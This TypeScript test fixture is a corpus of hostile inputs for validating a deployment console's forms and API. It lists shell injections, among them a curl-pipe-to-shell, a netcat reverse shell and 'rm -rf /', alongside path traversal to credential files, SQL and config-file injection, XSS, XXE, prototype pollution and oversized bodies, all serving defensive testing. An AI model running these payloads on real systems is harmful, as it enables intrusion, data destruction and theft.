// A corpus of hostile inputs for every form and API field: the tricks that broke peer panels
// (shell strings, path traversal, SQL, YAML/Caddyfile/.env injection) plus malformed and
// oversized data and unicode that looks like something it is not. Every string here is invalid
// for every non-free-text field the console has (no valid version tags, emails, uuids, roles…).

export type BadInput = { category: string; value: unknown };

const command = [
  '; rm -rf /', '&& rm -rf /', '| cat /etc/passwd', '`id`', '$(id)', '$(rm -rf ~)', '1.0.0; reboot', '1.0.0 && curl evil.sh | sh',
  '1.0.0`whoami`', '1.0.0$(whoami)', "'; exec sh; '", '"; exec sh; "', '\nrm -rf /', '1.0.0\n--privileged', '--privileged',
  '-v /:/host', '--network=host', '${IFS}cat${IFS}/etc/passwd', '1.0.0|nc -e /bin/sh 1.2.3.4 4444', '$((1+1))',
  '>(/bin/sh)', '<(/bin/sh)', '1.0.0 > /etc/cron.d/x', 'docker run --rm -v /:/h alpine', '%0arm%20-rf%20/',
];

const traversal = [
  '../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd', '/var/run/docker.sock', 'file:///etc/passwd', '../.env', '../../.tale/deployment-lock',
  '/proc/self/environ', '~/.ssh/id_rsa', 'tale.json/../../../etc', '\\\\server\\share', 'a/../../b', '.', '..', '/',
  '%00../../etc/passwd', '..;/..;/etc/passwd',
];

const sql = [
  "' OR '1'='1", "' OR 1=1 --", "admin'--", "'; DROP TABLE users; --", '" OR ""="', "1; DELETE FROM audit_events",
  "' UNION SELECT password_hash FROM users --", "1' AND SLEEP(5)--", "'; UPDATE users SET role='admin' --",
  "x'); INSERT INTO users VALUES('x','x','x','x','admin',NULL,NULL,NULL,NULL,0,0); --", '1 OR 1=1', "' || (SELECT sqlite_version()) || '",
  "%27%20OR%201%3D1", "\\' OR 1=1 #", "') OR ('a'='a",
];

const yaml = [
  'a: b\nc: d', '!!python/object/apply:os.system ["id"]', '{ ports: ["0.0.0.0:22:22"] }', '&anchor [*anchor, *anchor]',
  '- - - - - - - - - -', 'key: !override [ "0.0.0.0:80:80" ]', '"\nprivileged: true', '|\n  multi\n  line', '---\nservices: {}',
  '<<: *ref', '!!binary SGVsbG8=', '? complex key', '%YAML 1.1', "'\n  volumes: ['/:/host']", '{{ .Env.SECRET }}',
];

const caddy = [
  'example.com {\n respond "pwned"\n}', '} import /etc/passwd {', 'reverse_proxy evil.example:80', 'example.com\nimport /etc/caddy/*',
  '{$SECRET}', '{env.DB_PASSWORD}', 'example.com, evil.com', 'example.com:80 {', '# comment\nroute /* { respond 200 }', '@m path /*',
  'tls internal', 'http://evil.com', 'example.com/admin*', '*.example.com {', 'localhost\n:2019 { admin }',
];

const dotenv = [
  'x\nDB_PASSWORD=attacker', 'x\rINSTANCE_SECRET=0', 'value # comment', '"quoted"', "'single'", '$HOME', '${DB_PASSWORD}',
  'x=y', 'FOO=bar\nBAR=baz', 'export X=1', '\\', 'a\u0000b', 'value\u2028LINE=2', 'val"ue', "val'ue",
];

const unicode = [
  'аdmin@example.com', // Cyrillic а
  'admin@еxample.com', // Cyrillic е
  '１．０．０', // full-width digits and dots
  '1.0.0\u200b', '\u202e1.0.0', '1.0.0\ufeff', 'ad\u00admin@example.com', '𝟏.𝟎.𝟎', '١.٠.٠', '1․0․0', // one-dot leaders
  'admin@example.com\u0000', '\u0000', '\u0007\u0008\u001b[31m', '\u001b]0;title\u0007', '\r\n\r\nHTTP/1.1 200 OK',
  'x\u0085y', '\ud800', 'ﬀ', 'İstanbul', 'Ⅰ.Ⅱ.Ⅲ', '🙂'.repeat(50), 'e\u0301', '\t', ' ', '\u3000',
  'A'.repeat(1_000), 'A'.repeat(70_000), '%', '%%', '%s%s%s%n',
];

const markup = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)", '<svg onload=alert(1)>', '{{7*7}}',
  '${7*7}', '#{7*7}', '<!--', ']]>', '&lt;script&gt;',
];

const jsonShapes: unknown[] = [
  // No `{}` and no booleans: an action whose fields are all optional booleans (deploy) takes them.
  null, 'true', 'false', 0, -1, 1e308, Number.MAX_SAFE_INTEGER + 2, 1.5, '', [], [[]], { admin: true },
  { constructor: { prototype: { admin: true } } }, { toString: 'x' }, [1, 2, 3], { $gt: '' }, { $where: '1' },
  // React's reply decoder drops a `__proto__` key, so a second key keeps this from becoming `{}`.
  JSON.parse('{"__proto__":{"polluted":true},"x":1}'), Array.from({ length: 1000 }, (_, i) => i),
];

// Almost valid: one character or one rule away from a version tag, email, uuid, role or code.
const nearMiss = [
  '1.0.0 ', ' 1.0.0', '1.0', '1.0.0.0', 'latest', '1.0.0+build', '1.0.0-' + 'a'.repeat(65), '1.0.0@sha256:' + 'a'.repeat(64),
  'v1.0.0-../x', '01234567890.0.0', '-1.0.0', 'V1.0.0', '1.0.0\n', '1.0.0\r', '1.0.0-rc/1',
  'admin@example.com\n', 'admin@localhost', '@example.com', 'a@b', 'admin@example.com,evil@example.com', 'admin@example.com\r\nBcc: x@example.com',
  '00000000-0000-0000-0000-00000000000g', '00000000-0000-0000-0000-000000000000\n', '{00000000-0000-0000-0000-000000000000}',
  'Admin', 'admin ', 'root', 'superadmin', 'ADMIN', 'аdmin', 'operator\u0000', '12345', '1234567', '12345a', '123 456', '-12345',
];

/**
 * Names every plain JavaScript object inherits. As keys (of a body, of a query string, of a field
 * that takes keys such as the settings' `edits`, or as the key a field names) they must be refused
 * like any other bad input: a lookup in a plain object finds the inherited member, not undefined.
 */
export const PROTOTYPE_KEYS: readonly string[] = [
  'constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf', 'isPrototypeOf', 'propertyIsEnumerable',
  'toLocaleString', '__defineGetter__', '__defineSetter__', '__lookupGetter__', '__lookupSetter__',
];

const groups: Record<string, readonly unknown[]> = { command, traversal, sql, yaml, caddy, dotenv, unicode, markup, json: jsonShapes, nearMiss };

export const BAD_INPUTS: readonly BadInput[] = Object.entries(groups).flatMap(([category, values]) => values.map((value) => ({ category, value })));

/** Raw request bodies for JSON endpoints: not JSON, half JSON, the wrong type, or far too big. */
export const BAD_BODIES: readonly { category: string; body: string; contentType?: string }[] = [
  { category: 'malformed-json', body: '{not json' },
  { category: 'malformed-json', body: '{"version": }' },
  { category: 'malformed-json', body: '{"version": "1.0.0"' },
  { category: 'malformed-json', body: "{'version': '1.0.0'}" },
  { category: 'malformed-json', body: '{"version": "1.0.0",}' },
  { category: 'malformed-json', body: '\u0000' },
  { category: 'malformed-json', body: '' },
  { category: 'malformed-json', body: 'null' },
  { category: 'malformed-json', body: '"1.0.0"' },
  { category: 'malformed-json', body: '[' + '['.repeat(10_000) },
  { category: 'malformed-json', body: '{"a":'.repeat(5_000) },
  { category: 'malformed-json', body: '{"version":"1.0.0"}', contentType: 'application/x-www-form-urlencoded' },
  { category: 'malformed-json', body: 'version=1.0.0&all=true', contentType: 'application/x-www-form-urlencoded' },
  { category: 'malformed-json', body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', contentType: 'application/xml' },
  { category: 'oversized', body: JSON.stringify({ version: '1.0.0', pad: 'x'.repeat(5 * 1024 * 1024) }) },
  { category: 'oversized', body: JSON.stringify({ version: 'x'.repeat(2 * 1024 * 1024) }) },
  { category: 'oversized', body: JSON.stringify(Array.from({ length: 200_000 }, () => ({ a: 1 }))) },
];
